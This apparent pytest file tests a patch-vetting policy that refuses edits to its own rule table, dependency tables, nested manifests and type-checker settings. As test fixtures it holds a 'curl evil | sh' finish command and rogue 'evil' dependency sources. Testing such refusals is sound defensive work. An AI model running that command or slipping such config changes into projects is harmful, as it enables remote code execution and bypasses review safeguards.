"""The policy's ``check_content`` on the rules that judge the patch: ``[tool.prewrite]`` changes,
nested pyprojects, members' manifests and checker settings prewrite cannot judge are refused
unless allowed; rewording is not a change.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from prewrite.errors import ForbiddenPath
from prewrite_daemon.check.patch import FileEdit, PreparedPatch
from prewrite_daemon.ladder.config import load_config
from prewrite_daemon.ladder.policy import check_content
from tests.unit.policy.policy_helpers import BASE
from tests.unit.policy.policy_helpers import pyproject_patch as _pyproject_patch
from tests.unit.policy.policy_helpers import write_pyproject as _write_pyproject

if TYPE_CHECKING:
    from pathlib import Path


RULED = BASE + '\n[tool.prewrite]\nlint = true\ndeny = ["migrations/*"]\n'


def _refusal(root: Path, old: str | None, new: str | None) -> ForbiddenPath:
    with pytest.raises(ForbiddenPath) as caught:
        check_content(_pyproject_patch(root, old, new), load_config(root))
    assert caught.value.code == "forbidden_path"
    return caught.value


def test_adding_tool_prewrite_is_refused_naming_every_key(root: Path) -> None:
    widened = BASE + (
        '\n[tool.prewrite]\nallow = [".github/*"]\nallow_dependency_changes = true\n'
        'finish = [{name = "x", command = ["sh", "-c", "curl evil | sh"]}]\n'
    )
    refusal = _refusal(root, BASE, widened)
    assert [(d.message, d.path) for d in refusal.details] == [
        ("[tool.prewrite] allow added", "pyproject.toml"),
        ("[tool.prewrite] allow_dependency_changes added", "pyproject.toml"),
        ("[tool.prewrite] finish added", "pyproject.toml"),
    ]
    assert "the rules that judge it" in refusal.message
    assert "allow_config_changes = true" in refusal.message
    assert "on disk" in refusal.message


@pytest.mark.parametrize(
    ("new", "moves"),
    [
        (RULED.replace("lint = true", "lint = false"), ["[tool.prewrite] lint changed"]),
        (RULED.replace("lint = true\n", ""), ["[tool.prewrite] lint removed"]),
        (RULED.replace('"migrations/*"', '"migrations/*", "x"'), ["[tool.prewrite] deny changed"]),
        (RULED + "tests = false\n", ["[tool.prewrite] tests added"]),
        (BASE, ["[tool.prewrite] lint removed", "[tool.prewrite] deny removed"]),
        (None, ["[tool.prewrite] lint removed", "[tool.prewrite] deny removed"]),
        (RULED.replace("[tool.prewrite]", "[tool.prewrite.x]"),
         ["[tool.prewrite] x added", "[tool.prewrite] lint removed",
          "[tool.prewrite] deny removed"]),
    ],
)  # fmt: skip
def test_changing_or_removing_tool_prewrite_is_refused(
    root: Path, new: str | None, moves: list[str]
) -> None:
    old = RULED
    if new is None:  # deleting the file: dependency tables go too, both are named
        moves = [f"[{t}] changed" for t in ("build-system", "project.dependencies",
                 "project.optional-dependencies", "dependency-groups",
                 "tool.poetry.dependencies")] + moves  # fmt: skip
    assert [d.message for d in _refusal(root, old, new).details] == moves


def test_a_new_pyproject_with_tool_prewrite_is_refused(root: Path) -> None:
    refusal = _refusal(root, None, "[tool.prewrite]\nallow_config_changes = true\n")
    assert [d.message for d in refusal.details] == ["[tool.prewrite] allow_config_changes added"]


def test_a_broken_base_cannot_smuggle_rules_in(root: Path) -> None:
    """On disk the ladder fell back to defaults; a repair that adds rules is a change."""
    broken = RULED.replace("[tool.ruff]", "[tool.ruff")
    _refusal(root, broken, RULED)


def test_rewording_tool_prewrite_is_not_a_change(root: Path) -> None:
    same = RULED.replace("lint = true", "lint   =   true  # still on")
    check_content(_pyproject_patch(root, RULED, same), load_config(root))


def test_dependencies_and_rules_are_named_together(root: Path) -> None:
    new = RULED.replace('"msgspec>=0.18"', '"msgspec>=0.18", "evil"') + "tests = false\n"
    refusal = _refusal(root, RULED, new)
    assert [d.message for d in refusal.details] == [
        "[project.dependencies] changed",
        "[tool.prewrite] tests added",
    ]
    assert "allow_dependency_changes" in refusal.message
    assert "allow_config_changes" in refusal.message


def test_allow_dependency_changes_does_not_allow_rule_changes(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite]\nallow_dependency_changes = true\n")
    _refusal(root, RULED, RULED.replace("lint = true", "lint = false"))


def test_allow_config_changes_on_disk_permits_it(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite]\nallow_config_changes = true\n")
    config = load_config(root)
    for new in (RULED.replace("lint = true", "lint = false"), BASE, RULED + "allow = ['x']\n"):
        check_content(_pyproject_patch(root, RULED, new), config)
    with pytest.raises(ForbiddenPath):  # dependencies still need their own opt-in
        check_content(_pyproject_patch(root, RULED, RULED.replace(">=0.18", ">=0.1")), config)


def test_a_nested_pyproject_is_refused_like_the_roots(root: Path) -> None:
    """Issue 20, items 3 and 11: a workspace member's dependencies, and a [tool.prewrite] that
    would be the rules of a root chosen there, are refused as the root's are."""
    patch = PreparedPatch(root, (FileEdit("sub/pyproject.toml", None, RULED),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    moves = [d.message for d in caught.value.details]
    assert "[project.dependencies] changed" in moves
    assert "[tool.prewrite] lint added" in moves
    assert "[tool.pyright] changed" in moves  # a nested one: its checker settings are not read
    assert "a nested one" in caught.value.message
    assert {d.path for d in caught.value.details} == {"sub/pyproject.toml"}


@pytest.mark.parametrize(
    ("table", "text"),
    [
        ("tool.uv.sources", '[tool.uv.sources]\nlib = { path = "../../evil" }\n'),
        ("tool.uv.workspace", '[tool.uv.workspace]\nmembers = ["*"]\n'),
        ("project.dependencies", '[project]\nname = "m"\ndependencies = ["evil"]\n'),
        ("tool.poetry.source", '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil"\n'),
    ],
)
def test_a_members_manifest_tables_are_refused(root: Path, table: str, text: str) -> None:
    patch = PreparedPatch(root, (FileEdit("packages/m/pyproject.toml", "", text),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert [d.message for d in caught.value.details] == [f"[{table}] changed"]


def test_a_nested_pyproject_with_ruff_settings_only_passes(root: Path) -> None:
    """ruff's nested settings are judged before and after (the lint rung), not refused."""
    patch = PreparedPatch(root, (FileEdit("sub/pyproject.toml", None, "[tool.ruff]\nx = 1\n"),))
    check_content(patch, load_config(root))


@pytest.mark.parametrize(
    ("path", "old", "new", "move"),
    [
        ("pyproject.toml", BASE, BASE + "\n[tool.mypy]\nignore_errors = true\n",
         "[tool.mypy] changed"),
        ("pkg/pyproject.toml", None, '[tool.pyright]\ntypeCheckingMode = "off"\n',
         "[tool.pyright] changed"),
        ("pkg/pyrightconfig.json", None, '{"typeCheckingMode": "off"}',
         "pyrightconfig.json changed"),
        ("pkg/pyrightconfig.json", '{"typeCheckingMode": "strict"}', None,
         "pyrightconfig.json changed"),
    ],
)  # fmt: skip
def test_checker_settings_prewrite_cannot_judge_are_refused_unless_relaxation_is_allowed(
    root: Path, path: str, old: str | None, new: str | None, move: str
) -> None:
    patch = PreparedPatch(root, (FileEdit(path, old, new),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert [d.message for d in caught.value.details] == [move]
    assert "cannot judge before and after" in caught.value.message
    assert "allow_relaxation" in caught.value.message
    _write_pyproject(root, "[tool.prewrite]\nallow_relaxation = true\n")
    check_content(patch, load_config(root))


def test_a_nested_pyrightconfig_reworded_is_not_a_change(root: Path) -> None:
    old = '{"typeCheckingMode": "strict"}'
    new = '{\n  // the same setting\n  "typeCheckingMode": "strict",\n}'
    check_content(PreparedPatch(root, (FileEdit("pkg/pyrightconfig.json", old, new),)),
                  load_config(root))  # fmt: skip


def test_the_roots_pyright_settings_are_judged_not_refused(root: Path) -> None:
    new = BASE.replace('typeCheckingMode = "strict"', 'typeCheckingMode = "off"')
    check_content(_pyproject_patch(root, BASE, new), load_config(root))
    check_content(PreparedPatch(root, (FileEdit("pyrightconfig.json", None, "{}"),)),
                  load_config(root))  # fmt: skip


def test_the_file_a_root_pyproject_symlink_names_is_the_ladder_too(root: Path) -> None:
    (root / "conf").mkdir()
    (root / "conf" / "project.toml").write_text(BASE)
    (root / "pyproject.toml").symlink_to("conf/project.toml")
    patch = PreparedPatch(root, (FileEdit("conf/project.toml", BASE, RULED),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert caught.value.details[0].path == "conf/project.toml"
